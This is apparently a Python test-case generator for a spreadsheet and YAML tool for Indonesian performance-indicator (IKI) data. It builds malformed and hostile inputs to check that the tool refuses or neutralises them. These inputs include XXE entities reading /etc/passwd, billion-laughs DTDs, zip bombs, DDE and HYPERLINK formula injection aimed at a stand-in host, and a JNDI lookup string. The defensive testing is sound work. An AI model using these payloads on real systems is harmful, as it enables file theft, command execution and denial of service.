        Case("missing-markup-name", "a missing input named '[/]hilang [b].xlsx'", d,
             ("[/]hilang [b].xlsx",), refuse("[/]hilang [b].xlsx", r"tidak ditemukan|tidak ada"))
    )  # fmt: skip
    return made


@case
def bad_outputs(folder: Path, src: Sources) -> list[Case]:
    made: list[Case] = []
    cmds = ("new", "validate-report", "export", "consolidate", "laporan")
    ext = {
        "new": ".xlsx",
        "validate-report": ".xlsx",
        "export": ".yaml",
        "consolidate": ".xlsx",
        "laporan": ".xlsx",
    }

    def inputs(d: Path) -> dict[str, tuple[str, ...]]:
        shutil.copyfile(src.xlsx, d / "base.xlsx")
        shutil.copyfile(src.yaml, d / "base.yaml")
        return {"new": ("base.yaml",)}

    # a file name longer than NAME_MAX (255 bytes)
    d = _dir(folder, "output-name-too-long")
    long = "Pengajuan IKI Dinas Uji Ketahanan " * 9
    made.append(
        Case("output-name-too-long", "-o names a file of ~300 characters (over NAME_MAX)", d,
             ("base.xlsx",), {c: E(2, names=(long[:30],), pattern=r"terlalu panjang|nama berkas") for c in cmds},
             inputs_for=inputs(d), output_for={c: long + ext[c] for c in cmds})
    )  # fmt: skip
    # -o is an existing directory
    d = _dir(folder, "output-is-directory")
    for c in cmds:
        (d / f"hasil-{c}{ext[c]}").mkdir()
    made.append(
        Case("output-is-directory", "-o names an existing directory", d, ("base.xlsx",),
             {c: E(2, names=(f"hasil-{c}{ext[c]}",), pattern=r"folder|direktori") for c in cmds},
             inputs_for=inputs(d), output_for={c: f"hasil-{c}{ext[c]}" for c in cmds})
    )  # fmt: skip
    # -o in a read-only directory
    d = _dir(folder, "output-read-only-dir")
    ro = d / "arsip"
    ro.mkdir()
    made.append(
        Case("output-read-only-dir", "-o inside a directory with mode 555", d, ("base.xlsx",),
             {c: E(2, names=(f"hasil{ext[c]}",), pattern=r"tidak dapat ditulis|izin|akses|hanya-baca|hanya baca") for c in cmds},
             inputs_for=inputs(d), output_for={c: f"arsip/hasil{ext[c]}" for c in cmds})
    )  # fmt: skip
    ro.chmod(0o555)
    # -o names an input found in a folder
    d = _dir(folder, "output-overwrites-folder-input")
    (d / "dinas").mkdir()
    shutil.copyfile(src.xlsx, d / "dinas" / "Dinas_A.xlsx")
    made.append(
        Case("output-overwrites-folder-input",
             "consolidate dinas -o dinas/Dinas_A.xlsx: the output is an input found in the folder",
             d, ("dinas",),
             {c: E(2, names=("Dinas_A.xlsx",), pattern=r"menimpa|masukan") for c in ("consolidate", "laporan")},
             output_for={"consolidate": "dinas/Dinas_A.xlsx", "laporan": "dinas/Dinas_A.xlsx"})
    )  # fmt: skip
    # -o is a symlink pointing at the input: writing through it would destroy the input
    d = _dir(folder, "output-symlink-to-input")
    shutil.copyfile(src.xlsx, d / "base.xlsx")
    shutil.copyfile(src.yaml, d / "base.yaml")
    links = {
        "new": "hasil-new.xlsx",
        "validate-report": "hasil-laporan.xlsx",
        "export": "hasil-ekspor.yaml",
        "consolidate": "hasil-pengajuan.xlsx",
        "laporan": "hasil-laporan-tw.xlsx",
    }
    for c, link in links.items():
        (d / link).symlink_to("base.yaml" if c == "new" else "base.xlsx")
    made.append(
        Case("output-symlink-to-input", "-o is a symlink pointing at the input", d, ("base.xlsx",),
             {c: E(2, names=(link,), pattern=r"menimpa|masukan|diperiksa") for c, link in links.items()},
             inputs_for={"new": ("base.yaml",)}, output_for=links)
    )  # fmt: skip
    # the same input named three times
    d = _dir(folder, "same-input-thrice")
    shutil.copyfile(src.xlsx, d / "base.xlsx")
    made.append(
        Case("same-input-thrice", "consolidate base.xlsx base.xlsx ./base.xlsx", d,
             ("base.xlsx", "base.xlsx", "./base.xlsx"),
             {c: E(0, 1, once="base.xlsx", note="consolidated once (or refused), never thrice")
              for c in ("consolidate", "laporan")})
    )  # fmt: skip
    return made


# ---- C. XML attacks and bombs


def _dtd_lol(levels: int = 10) -> str:
    ents = ['<!ENTITY lol0 "lol">']
    for i in range(1, levels):
        ents.append(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">')
    return "<!DOCTYPE worksheet [" + "".join(ents) + "]>"


def _with_doctype(xml: bytes, doctype: str) -> bytes:
    s = xml.decode("utf-8")
    m = re.match(r"<\?xml[^>]*\?>", s)
    at = m.end() if m else 0
    return (s[:at] + doctype + s[at:]).encode()


@case
def xml_attacks(folder: Path, src: Sources) -> list[Case]:
    made: list[Case] = []
    part = src.part(S_SEK)
    t = src.table[S_SEK]
    ref = f"{t['Penjelasan']}11"
    base = src.xlsx_bytes

    def sheet_with(doctype: str, value: str) -> Callable[[bytes], bytes]:
        def f(b: bytes) -> bytes:
            s = set_cell_xml(
                b.decode(), ref, f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'
            )
            return _with_doctype(s.encode(), doctype)

        return f

    def shared_with(doctype: str, value: str) -> Callable[[bytes], bytes]:
        def f(b: bytes) -> bytes:
            s = b.decode().replace("</sst>", f"<si><t>{value}</t></si></sst>")
            return _with_doctype(s.encode(), doctype.replace("worksheet", "sst"))

        return f

    xxe = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    for name, about, p, fn, pat, absent in (
        ("billion-laughs-sheet", "DTD with 10^10 'lol' entities in the Sekretaris sheet part",
         part, sheet_with(_dtd_lol(), "&lol9;"), DTD, ()),
        ("billion-laughs-shared-strings", "DTD with 10^10 'lol' entities in xl/sharedStrings.xml",
         "xl/sharedStrings.xml", shared_with(_dtd_lol(), "&lol9;"), DTD, ()),
        ("xxe-sheet", "external entity file:///etc/passwd in a Sekretaris cell",
         part, sheet_with(xxe, "&xxe;"), DTD, ("root:x:0:0",)),
        ("xxe-shared-strings", "external entity file:///etc/passwd in xl/sharedStrings.xml",
         "xl/sharedStrings.xml", shared_with(xxe, "&xxe;"), DTD, ("root:x:0:0",)),
    ):  # fmt: skip
        d = _dir(folder, name)
        f = d / f"{name}.xlsx"
        f.write_bytes(replace_part(base, p, fn))
        made.append(
            Case(name, about, d, (f.name,), refuse(f.name, pat, absent=absent), time_s=5)
        )  # fmt: skip
    return made


GiB = 1 << 30
MiB = 1 << 20


@case
def bombs(folder: Path, src: Sources) -> list[Case]:
    made: list[Case] = []
    part = src.part(S_SEK)
    t = src.table[S_SEK]
    ref = f"{t['Penjelasan']}11"
    base = src.xlsx_bytes

    # 1.5 GiB of whitespace between the rows of a sheet part (~1.5 MB compressed)
    def ws_bomb(body: bytes) -> RawEntry:
        s = body.decode()
        at = s.index("<sheetData>") + len("<sheetData>")
        return bomb_entry(part, s[:at].encode(), b" " * MiB, 1536, s[at:].encode())

    # 1.5 GiB of spaces inside one cell's text (the issue: 121 s at 4.6 GB)
    def cell_bomb(body: bytes) -> RawEntry:
        s = set_cell_xml(
            body.decode(), ref, f'<c r="{ref}" t="inlineStr"><is><t>x@@BOM@@y</t></is></c>'
        )
        head, tail = s.split("@@BOM@@")
        return bomb_entry(part, head.encode(), b" " * MiB, 1536, tail.encode())

    # 1 GiB string in the shared-strings table
    def sst_bomb(body: bytes) -> RawEntry:
        s = body.decode().replace("</sst>", "<si><t>x@@BOM@@y</t></si></sst>")
        head, tail = s.split("@@BOM@@")
        return bomb_entry("xl/sharedStrings.xml", head.encode(), b"a" * MiB, 1024, tail.encode())

    for name, about, p, fn in (
        ("zip-bomb-sheet", "a sheet part inflating to 1.5 GiB (whitespace) from ~1.5 MB", part, ws_bomb),
        ("zip-bomb-cell", "one cell holding 1.5 GiB of spaces (inline string), ~1.5 MB compressed", part, cell_bomb),
        ("zip-bomb-shared-strings", "a 1 GiB shared string, ~1 MB compressed", "xl/sharedStrings.xml", sst_bomb),
    ):  # fmt: skip
        d = _dir(folder, name)
        f = d / f"{name}.xlsx"
        bomb_workbook(f, base, p, fn)
        made.append(
            Case(name, about, d, (f.name,), refuse(f.name, TOO_BIG, note="refused before expanding"),
                 time_s=5, mem_mb=200)
        )  # fmt: skip
    return made


@case
def huge_extent(folder: Path, src: Sources) -> list[Case]:
    made: list[Case] = []
    part = src.part(S_SEK)
    base = src.xlsx_bytes
    # one stray value at the last cell of the sheet (XFD1048576)
    stray = lambda b: set_cell_xml(b.decode(), "XFD1048576", inline("XFD1048576", "x")).encode()  # noqa: E731
    d = _dir(folder, "stray-cell-xfd1048576")
    (d / "stray.xlsx").write_bytes(replace_part(base, part, stray))
    made.append(
        Case("stray-cell-xfd1048576", "one stray value at XFD1048576 on the Sekretaris sheet", d,
             ("stray.xlsx",), usable(WB, present=ALL_JABATAN[1:2]), time_s=15, mem_mb=200)
    )  # fmt: skip
    # the same file among good ones in a Pemda (folder) consolidation
    d = _dir(folder, "stray-cell-in-folder")
    (d / "pemda").mkdir()
    (d / "pemda" / "Dinas_A.xlsx").write_bytes(replace_part(base, part, stray))
    shutil.copyfile(src.xlsx, d / "pemda" / "Dinas_B.xlsx")
    made.append(
        Case("stray-cell-in-folder", "a folder consolidation where one workbook has a value at XFD1048576",
             d, ("pemda",),
             {c: E(0, 1, present=("Dinas_B.xlsx",), note="one bad file must not kill the Pemda run")
              for c in ("consolidate", "laporan")}, time_s=20)
    )  # fmt: skip
    # a <dimension> claiming the whole sheet, content small
    d = _dir(folder, "dimension-whole-sheet")
    dim = lambda b: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', b)  # noqa: E731
    (d / "dimension.xlsx").write_bytes(replace_part(base, part, dim))
    made.append(
        Case("dimension-whole-sheet", "<dimension ref=A1:XFD1048576/> on a small sheet", d,
             ("dimension.xlsx",), usable(WB), time_s=15)
    )  # fmt: skip
    # 16,384 filled columns on a row below the lists
    d = _dir(folder, "columns-16384")

    def wide(b: bytes) -> bytes:
        row = "".join(f'<c r="{col_letters(c)}60"><v>{c}</v></c>' for c in range(1, 16385))
        s = b.decode()
        s = s.replace("</sheetData>", f'<row r="60">{row}</row></sheetData>')
        return s.encode()

    (d / "wide.xlsx").write_bytes(replace_part(base, part, wide))
    made.append(
        Case("columns-16384", "a row with values in all 16,384 columns (A60:XFD60) on the Sekretaris sheet",
             d, ("wide.xlsx",), usable(WB), time_s=20)
    )  # fmt: skip
    return made


@case
def hundred_thousand_rows(folder: Path, src: Sources) -> Case:
    """10,000 indicator rows on the Sekretaris sheet, written as raw XML (inline strings).

    100,000 rows proved nothing more than 10,000 (the work is linear in the rows) and took
    a minute and 1.8 GB per command with main's model (reading 18 s, completing 16 s):
    the corpus must fit `make test`."""
    n = 10_000
    t = src.table[S_SEK]
    part = src.part(S_SEK)
    r0 = t.header_row + 2
    mendukung = BASE["jabatan"][0]["kinerja"][0]["indikator"][0]["nama"]

    def body(b: bytes) -> bytes:
        s = b.decode()
        # keep rows up to the header, drop the rest and the merges below the header
        first = re.search(rf'<row r="{r0}"', s)
        end = s.index("</sheetData>")
        rows = []
        for i in range(n):
            r = r0 + i
            cells = []
            if i == 0:
                cells.append(f'<c r="{t["No"]}{r}"><v>1</v></c>')
                cells.append(
                    inline(f"{t['Kinerja / Sasaran']}{r}", "Meningkatnya kualitas perencanaan")
                )
            cells += [
                inline(f"{t['No IK']}{r}", f"1.{i + 1}"),
                inline(f"{t['Indikator Kinerja']}{r}", f"Jumlah dokumen perencanaan ke-{i + 1} yang disusun"),
                inline(f"{t['Jenis Formula']}{r}", "jumlah"),
                inline(f"{t['Formulasi Penghitungan']}{r}", f"Σ dokumen perencanaan ke-{i + 1}"),
                *(f'<c r="{t[f"Realisasi/TW {q}"]}{r}"><v>{k + 1}</v></c>' for k, q in enumerate(("I", "II", "III", "IV"))),
                inline(f"{t['Satuan']}{r}", "dokumen"),
                inline(f"{t['Polaritas']}{r}", "positif"),
                f'<c r="{t["Target"]}{r}"><v>10</v></c>',
                inline(f"{t['Agregasi Tahunan']}{r}", "kumulatif"),
                inline(f"{t['Sumber Data']}{r}", "Arsip dokumen perencanaan"),
                inline(f"{t['Mendukung Indikator Atasan']}{r}", mendukung),
            ]  # fmt: skip
            cells.sort(key=lambda c: col_num(re.match(r'<c r="([A-Z]+)', c).group(1)))  # type: ignore[union-attr]
            rows.append(f'<row r="{r}">{"".join(cells)}</row>')
        s = s[: first.start()] + "".join(rows) + s[end:]  # type: ignore[union-attr]
        s = re.sub(r"<mergeCells.*?</mergeCells>", "", s, flags=re.S)
        s = re.sub(r"<dimension [^>]*/>", "", s)
        return s.encode()

    d = _dir(folder, "rows-10000")
    (d / "rows-10000.xlsx").write_bytes(replace_part(src.xlsx_bytes, part, body))
    return Case(
        "rows-10000", "10,000 indicator rows on the Sekretaris sheet (the issue's 100,000 took 142 s)", d,
        ("rows-10000.xlsx",), usable(WB), time_s=30, mem_mb=1000, slow=True,
    )  # fmt: skip


@case
def many_jabatan(folder: Path, src: Sources) -> Case:
    doc = base_doc()
    proto = doc["jabatan"][1]
    doc["jabatan"] = doc["jabatan"][:1]
    for i in range(299):
        j = copy.deepcopy(proto)
        j["id"] = f"jab-{i:03d}"
        j["nama"] = f"Kepala Seksi Uji {i:03d}"
        doc["jabatan"].append(j)
    d = _dir(folder, "jabatan-300")
    dump_yaml(doc, d / "jabatan-300.yaml")
    cli_new(d / "jabatan-300.yaml", d / "jabatan-300.xlsx")
    return Case(
        "jabatan-300", "300 jabatan sheets (and the same as YAML for new)", d, ("jabatan-300.xlsx",),
        usable([*WB, "new"]), inputs_for={"new": ("jabatan-300.yaml",)}, time_s=30, mem_mb=400,
        slow=True,
    )  # fmt: skip


# ---- D. what planners do to a workbook (openpyxl, as saved by a spreadsheet program)


def _carried(e: dict[str, Expect], texts: tuple[str, ...]) -> dict[str, Expect]:
    """`present` on the commands whose output holds every field (not `show`'s tree)."""
    return {c: replace(x, present=texts) if c in ("show-json", "export", "consolidate", "macro-consolidate") else x
            for c, x in e.items()}  # fmt: skip


def _edit_case(
    folder: Path,
    src: Sources,
    name: str,
    about: str,
    fn: Callable[[Any], None],
    expect: dict[str, Expect],
    **kw: Any,
) -> Case:
    d = _dir(folder, name)
    f = d / f"{name}.xlsx"
    f.write_bytes(edit_workbook(src.xlsx, fn))
    return Case(name, about, d, (f.name,), expect, **kw)


@case
def planner_edits(folder: Path, src: Sources) -> list[Case]:  # noqa: C901, PLR0915 - one checklist, read top to bottom
    T = src.table
    made: list[Case] = []
    add = lambda *a, **k: made.append(_edit_case(folder, src, *a, **k))  # noqa: E731

    def delete(wb: Any) -> None:
        del wb[S_SEK]

    e = usable([*WB, *MACROS])
    for c in ("validate", "validate-report"):
        e[c] = E(1, names=(TAB_KASUBAG,), pattern=r"atasan",
                 note="Kasubag's atasan 'sekretaris' is gone with its sheet")  # fmt: skip
    e["validate-json"] = E(1, pattern=r"atasan", cells=((TAB_KASUBAG, r"[A-Z]+\d+"),))
    add("sheet-deleted", "the Sekretaris sheet deleted (Kasubag's atasan now missing)", delete, e)

    def rename(wb: Any) -> None:
        wb[S_SEK].title = "Lembar1"
        wb[TAB_KASUBAG].title = "Sheet (2)"

    add("sheets-renamed", "jabatan sheets renamed 'Lembar1' and 'Sheet (2)'", rename,
        usable([*WB, *MACROS], present=ALL_INDICATORS))  # fmt: skip

    def no_instansi(wb: Any) -> None:
        del wb["Instansi"]

    e = usable([*WB, *MACROS])
    for c in ("validate", "validate-json", "validate-report", "export", "consolidate", "laporan"):
        e[c] = replace(e[c], pattern=r"instansi")
    add("instansi-deleted", "the Instansi sheet deleted", no_instansi, e)

    def insert_rows(wb: Any) -> None:
        ws = wb[S_KADIS]
        ws.insert_rows(13)  # a blank row between the two indicators
        shift_merges(ws, row=1, at=13)
        ws.insert_rows(2, 2)  # two rows above the whole block
        shift_merges(ws, row=2, at=2)

    add("rows-inserted", "rows inserted inside the table and above the header (Kepala Dinas)",
        insert_rows, usable([*WB, *MACROS], present=ALL_INDICATORS[:2]))  # fmt: skip

    def move_cols(wb: Any) -> None:
        ws = wb[S_SEK]
        a, b = T[S_SEK]["Satuan"], T[S_SEK]["Sumber Data"]
        for r in range(1, ws.max_row + 1):
            x, y = ws[f"{a}{r}"], ws[f"{b}{r}"]
            if type(x).__name__ == type(y).__name__ == "Cell":  # merged header parts move alike
                x.value, y.value = y.value, x.value

    add("columns-moved", "Satuan and Sumber Data columns swapped, headers included (Sekretaris)",
        move_cols, _carried(usable([*WB, *MACROS]), ("Arsip dokumen perencanaan", "Register laporan")))  # fmt: skip

    def insert_col(wb: Any) -> None:
        ws = wb[S_SEK]
        at = col_num(T[S_SEK]["Jenis Formula"])
        ws.insert_cols(at)
        shift_merges(ws, col=1, at=at)
        ws.cell(T[S_SEK].header_row, at).value = "Catatan perencana"
        ws.cell(T[S_SEK].header_row + 2, at).value = "cek ulang"

    add("column-inserted", "a planner's column inserted before Jenis Formula (Sekretaris)",
        insert_col, _carried(usable([*WB, *MACROS]), ("Σ dokumen perencanaan yang disusun",)))  # fmt: skip

    hr = T[S_SEK].header_row

    def merge_header(
        wb: Any,
    ) -> None:  # over "No IK" .. "Formulasi": the label row loses "Indikator Kinerja"
        ws = wb[S_SEK]
        ws.merge_cells(f"{T[S_SEK]['No IK']}{hr}:{T[S_SEK]['Formulasi Penghitungan']}{hr + 1}")

    silent_drop = "today: the jabatan is silently dropped, exit 0"
    e = finding(WB, names=(S_SEK,), note=silent_drop)
    e |= {m: E(0, names=(S_SEK,), note="the box or the report names the sheet") for m in MACROS}
    add("header-merged", "cells merged over the table header (No IK … Formulasi, two rows) on Sekretaris",
        merge_header, e)  # fmt: skip

    def merge_header_columns(wb: Any) -> None:  # "Indikator Kinerja" survives, two labels go
        ws = wb[S_SEK]
        ws.merge_cells(
            f"{T[S_SEK]['Indikator Kinerja']}{hr}:{T[S_SEK]['Formulasi Penghitungan']}{hr + 1}"
        )

    e = finding(
        WB,
        names=(S_SEK,),
        note="Jenis Formula and Formulasi lose their header: their values are dropped",
    )
    e |= {m: E(0, names=(S_SEK,), note="the box or the report names the sheet") for m in MACROS}
    add("header-merged-columns", "header cells Indikator Kinerja … Formulasi merged (Sekretaris): two labels gone",
        merge_header_columns, e)  # fmt: skip

    def rename_header(wb: Any) -> None:
        wb[S_SEK][f"{T[S_SEK]['Indikator Kinerja']}{hr}"].value = "Indikator"

    e = finding(WB, names=(S_SEK,), note=silent_drop)
    e |= {m: E(0, names=(S_SEK,), note="the box or the report names the sheet") for m in MACROS}
    add("header-renamed", "the header 'Indikator Kinerja' changed to 'Indikator' on Sekretaris",
        rename_header, e)  # fmt: skip

    ra, rb = T[S_SEK].rows[:2]

    def merge_body(wb: Any) -> None:  # from indicator 1.1's row to 1.2's: 1.2's name is wiped
        ws = wb[S_SEK]
        ws.merge_cells(
            f"{T[S_SEK]['Indikator Kinerja']}{ra}:{T[S_SEK]['Formulasi Penghitungan']}{rb}"
        )

    e = usable([*WB, *MACROS])
    for c in ("validate", "validate-json", "validate-report"):
        e[c] = E(1, cells=((S_SEK, "|".join(f"[A-Z]+{r}" for r in range(ra, rb + 1))),),
                 note="merging wiped Jenis/Formulasi of 1.1 and the name of 1.2")  # fmt: skip
    add(
        "table-merged",
        "cells merged over the table body (Indikator…Formulasi, two indicator rows)",
        merge_body,
        e,
    )

    tk = T[S_SEK]
    r1 = hr + 2

    def text_in_numbers(wb: Any) -> None:
        ws = wb[S_SEK]
        ws[f"{tk['Realisasi/TW I']}{r1}"] = "delapan"
        ws[f"{tk['Target']}{r1}"] = "tinggi"
        ws[f"{tk['Realisasi/TW II']}{r1 + 1}"] = "n/a"

    e = usable([*WB, *MACROS])
    cells = ((S_SEK, f"{tk['Realisasi/TW I']}{r1}"), (S_SEK, f"{tk['Target']}{r1}"))
    for c in ("validate", "validate-json", "validate-report"):
        e[c] = E(0, 1, cells=cells)
    add(
        "text-in-number-cells",
        "'delapan', 'tinggi', 'n/a' typed in realisasi and target cells",
        text_in_numbers,
        e,
    )

    def typed_numbers(wb: Any) -> None:
        ws = wb[S_SEK]
        ws[f"{tk['Realisasi/TW I']}{r1}"] = "80%"
        ws[f"{tk['Realisasi/TW II']}{r1}"] = "7,5"
        ws[f"{tk['Realisasi/TW III']}{r1}"] = "1.234,5"
        ws[f"{tk['Realisasi/TW IV']}{r1}"] = " 12 "
        ws[f"{tk['Target']}{tk.rows[1]}"] = "10 %"

    add("numbers-as-text", "'80%', '7,5', '1.234,5', ' 12 ', '10 %' typed as text in number cells",
        typed_numbers, usable([*WB, *MACROS]))  # fmt: skip

    def dates(wb: Any) -> None:
        ws = wb[S_SEK]
        ws[f"{tk['Realisasi/TW I']}{r1}"] = dt.datetime(2025, 3, 31)
        ws[f"{tk['Target']}{r1}"] = dt.date(2025, 12, 31)

    e = usable([*WB, *MACROS])
    for c in ("validate", "validate-json", "validate-report"):
        e[c] = E(
            0, 1, cells=((S_SEK, f"{tk['Realisasi/TW I']}{r1}"), (S_SEK, f"{tk['Target']}{r1}"))
        )
    add("dates-in-number-cells", "dates in a realisasi and a target cell", dates, e)

    def overwrite_formulas(wb: Any) -> None:
        ws = wb[S_SEK]
        ws[f"{tk['Capaian Tahunan (%)']}{r1}"] = 150
        ws[f"{tk['Nilai/TW I']}{r1}"] = "abc"
        ws[f"{tk['Nilai s.d. TW']}{tk.rows[1]}"] = 42

    e = usable([*WB, *MACROS])
    for c in ("validate", "validate-json", "validate-report"):
        e[c] = E(0, 1, cells=((S_SEK, f"{tk['Capaian Tahunan (%)']}{r1}"),), pattern=r"rumus",
                 note="a constant where the IKI formula belongs")  # fmt: skip
    add(
        "formulas-overwritten",
        "IKI formula cells overwritten by constants (150, 'abc', 42)",
        overwrite_formulas,
        e,
    )

    def hide(wb: Any) -> None:
        wb[S_SEK].sheet_state = "hidden"
        wb[TAB_KASUBAG].sheet_state = "veryHidden"

    e = usable([*WB, *MACROS], present=(S_SEK, S_KASUBAG),
               note="hidden jabatan sheets are read (or refused by name), never silently dropped")  # fmt: skip
    add("hidden-sheets", "Sekretaris hidden, Kasubag very hidden", hide, e)

    quoted = "Kasi 'Rehab' \"A&B\" <1>"

    def quotes(wb: Any) -> None:
        ws = wb[S_SEK]
        ws.title = quoted
        ws[f"{tk['Sumber Data']}{r1}"] = None  # a finding that names this sheet

    e = usable([*WB, *MACROS])
    for c in ("validate", "validate-json", "validate-report"):
        e[c] = E(1, cells=((quoted, f"{tk['Sumber Data']}{r1}"),))
    add(
        "quotes-in-sheet-name",
        "a jabatan sheet named Kasi 'Rehab' \"A&B\" <1> with a finding on it",
        quotes,
        e,
    )

    def duplicate(wb: Any) -> None:
        wb.copy_worksheet(wb[S_SEK])  # same nama, same ID

    e = usable([*WB, *MACROS])
    for c in ("validate", "validate-report"):
        e[c] = E(
            0, 1, names=(f"{S_SEK} Copy",), pattern=r"ganda|sudah dipakai|sama|duplikat|dua kali"
        )
    e["validate-json"] = E(0, 1, cells=((f"{S_SEK} Copy", r"[A-Z]+\d+"),),
                           pattern=r"ganda|sudah dipakai|sama|duplikat|dua kali")  # fmt: skip
    add(
        "duplicate-jabatan",
        "the Sekretaris sheet copied: two jabatan with the same name and ID",
        duplicate,
        e,
    )
    return made


@case
def cached_errors(folder: Path, src: Sources) -> Case:
    """Excel error values as cell values and as formula results (edited in the XML)."""
    tk = src.table[S_SEK]
    r1 = tk.header_row + 2
    part = src.part(S_SEK)

    def f(b: bytes) -> bytes:
        s = b.decode()
        s = set_cell_xml(
            s,
            f"{tk['Realisasi/TW I']}{r1}",
            f'<c r="{tk["Realisasi/TW I"]}{r1}" t="e"><v>#DIV/0!</v></c>',
        )
        s = set_cell_xml(
            s, f"{tk['Target']}{r1}", f'<c r="{tk["Target"]}{r1}" t="e"><v>#N/A</v></c>'
        )
        for key, err in (
            ("Capaian Tahunan (%)", "#NAME?"),
            ("Nilai/TW I", "#VALUE!"),
            ("Predikat", "#REF!"),
        ):
            ref = f"{tk[key]}{r1}"
            m = re.search(rf'<c r="{ref}"[^>]*>(<f>.*?</f>)', s)
            fml = m.group(1) if m else ""
            s = set_cell_xml(s, ref, f'<c r="{ref}" t="e">{fml}<v>{err}</v></c>')
        return s.encode()

    d = _dir(folder, "excel-error-values")
    (d / "errors.xlsx").write_bytes(replace_part(src.xlsx_bytes, part, f))
    e = usable([*WB, *MACROS])
    for c in ("validate", "validate-json", "validate-report"):
        e[c] = E(
            0, 1, cells=((S_SEK, f"{tk['Realisasi/TW I']}{r1}"), (S_SEK, f"{tk['Target']}{r1}"))
        )
    return Case("excel-error-values", "#DIV/0!, #N/A as realisasi/target; #NAME?, #VALUE!, #REF! as cached formula results",
                d, ("errors.xlsx",), e)  # fmt: skip


# ---- E. hostile texts (in a workbook and in YAML)

INJECTION = (
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "=cmd|' /C calc'!A0",
    "=1+1",
)
INJECTION_MARKERS = ("HYPERLINK", "cmd|", "1+1", "2+3", "SUM(1,2)")
MARKUP = (
    "[/]",
    "[b]tebal[/b]",
    "[red]merah[/red] [/red]",
    "[link=file:///etc/passwd]klik[/link]",
    "<b>&amp;</b> <script>alert(1)</script>",
    "${jndi:ldap://contoh.invalid/a} {0} %s %(x)s {{x}}",
    "\\[escaped] [[double]] [",
)
EMOJI_RTL = (
    "Persentase 👩🏽‍💼 pegawai 🇮🇩 terlatih",
    "مؤشر الأداء الفردي",
    "מדד ביצועים",
    "Jumla\u0303h combining and \u200bzero\u200dwidth and \u202eRLO override\u202c end",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 astral 𠜎𠜱",
)


def _put_texts(doc: dict[str, Any], texts: tuple[str, ...]) -> None:
    """Spread `texts` over every kind of text field; the first four land in fields `show`
    prints (Dinas, jabatan, sasaran, indicator)."""
    jab = doc["jabatan"]
    ind = jab[1]["kinerja"][0]["indikator"][0]
    it = iter(texts * 3)
    doc["instansi"]["nama"] = next(it)
    jab[1]["nama"] = next(it)
    jab[1]["kinerja"][0]["sasaran"] = next(it)
    ind["nama"] = next(it)
    jab[1]["unit"] = next(it)
    ind["formulasi"] = next(it)
    ind["penjelasan"] = next(it)
    ind["sumber_data"] = next(it)
    jab[1]["tugas"] = [next(it), next(it)]
    jab[1]["fungsi"] = [next(it)]
    doc["instansi"]["menimbang"] = [next(it)]


def _put_texts_wb(src: Sources, texts: tuple[str, ...]) -> Callable[[Any], None]:
    tk = src.table[S_SEK]
    r1 = tk.header_row + 2

    def fn(wb: Any) -> None:
        ws = wb[S_SEK]
        it = iter(texts * 3)
        for ref in (  # the first four are printed by `show`
            "D3",
            f"{tk['Kinerja / Sasaran']}{r1}",
            f"{tk['Indikator Kinerja']}{r1}",
            f"{tk['Indikator Kinerja']}{tk.rows[1]}",
            "D5",
            f"{tk['Formulasi Penghitungan']}{r1}",
            f"{tk['Penjelasan']}{r1}",
            f"{tk['Sumber Data']}{r1}",
        ):
            set_text(ws, ref, next(it))
        # the first Tugas line: the cell right of the first "a." below the table
        for row in ws.iter_rows(min_row=r1):
            if row[0].value == "a.":
                set_text(ws, f"B{row[0].row}", next(it))
                break
        set_text(wb["Instansi"], "B4", next(it))

    return fn


@case
def hostile_texts(folder: Path, src: Sources) -> list[Case]:
    made: list[Case] = []
    for name, about, texts, extra in (
        ("formula-injection", "texts starting with = + - @ (HYPERLINK, DDE cmd|) in every text field",
         INJECTION, {"not_formula": INJECTION_MARKERS, "present": INJECTION[:4]}),
        ("markup-texts", "rich/console markup, HTML, template and format strings in text fields",
         MARKUP, {"present": MARKUP[:4]}),
        ("emoji-rtl", "emoji with ZWJ and skin tone, Arabic, Hebrew, combining marks, RLO, astral",
         EMOJI_RTL, {"present": EMOJI_RTL[:4]}),
    ):  # fmt: skip
        # as a workbook edited by the planner
        made.append(
            _edit_case(folder, src, f"{name}-workbook", about + " (workbook)", _put_texts_wb(src, texts),
                       with_(usable([*WB, *MACROS]), **extra))
        )  # fmt: skip
        # as a YAML document
        d = _dir(folder, f"{name}-yaml")
        doc = base_doc()
        _put_texts(doc, texts)
        dump_yaml(doc, d / f"{name}.yaml")
        made.append(
            Case(
                f"{name}-yaml",
                about + " (YAML)",
                d,
                (f"{name}.yaml",),
                with_(usable(DATA), **extra),
            )
        )
    return made


@case
def long_texts(folder: Path, src: Sources) -> list[Case]:
    made: list[Case] = []
    tk = src.table[S_SEK]
    r1 = tk.header_row + 2
    long40 = ("Jumlah dokumen perencanaan yang disusun tepat waktu. " * 800)[:40_000]
    long33 = ("Melaksanakan koordinasi. " * 1400)[:33_000]
    ref = f"{tk['Formulasi Penghitungan']}{r1}"
    ref2 = f"{tk['Penjelasan']}{r1}"

    def fn(b: bytes) -> bytes:  # raw XML: openpyxl itself would cut the text at 32,767
        s = set_cell_xml(b.decode(), ref, inline(ref, long40))
        return set_cell_xml(s, ref2, inline(ref2, long33)).encode()

    e = usable([*WB, *MACROS])
    e["export"] = E(0, 1, present=(long40, long33), note="export keeps the whole text")
    e["show-json"] = E(0, present=(long40,))
    for c in ("consolidate", "laporan"):
        e[c] = E(0, 1, names=(S_SEK,), pattern=r"32[.,]?767|terlalu panjang|dipotong",
                 note="Excel holds 32,767 characters per cell: the submission must say so, not cut silently")  # fmt: skip
    d = _dir(folder, "cell-40000-chars-workbook")
    (d / "panjang.xlsx").write_bytes(replace_part(src.xlsx_bytes, src.part(S_SEK), fn))
    made.append(
        Case("cell-40000-chars-workbook", "a 40,000-character formulasi and a 33,000-character "
             "penjelasan (Sekretaris; raw XML, as a non-Excel writer makes them)", d, ("panjang.xlsx",), e)
    )  # fmt: skip
    d = _dir(folder, "cell-40000-chars-yaml")
    doc = base_doc()
    doc["jabatan"][1]["kinerja"][0]["indikator"][0]["formulasi"] = long40
    doc["jabatan"][1]["tugas"][0] = long33
    dump_yaml(doc, d / "panjang.yaml")
    e = usable(DATA)
    e["show-json"] = E(0, present=(long40, long33))
    for c in ("new", "consolidate", "laporan"):
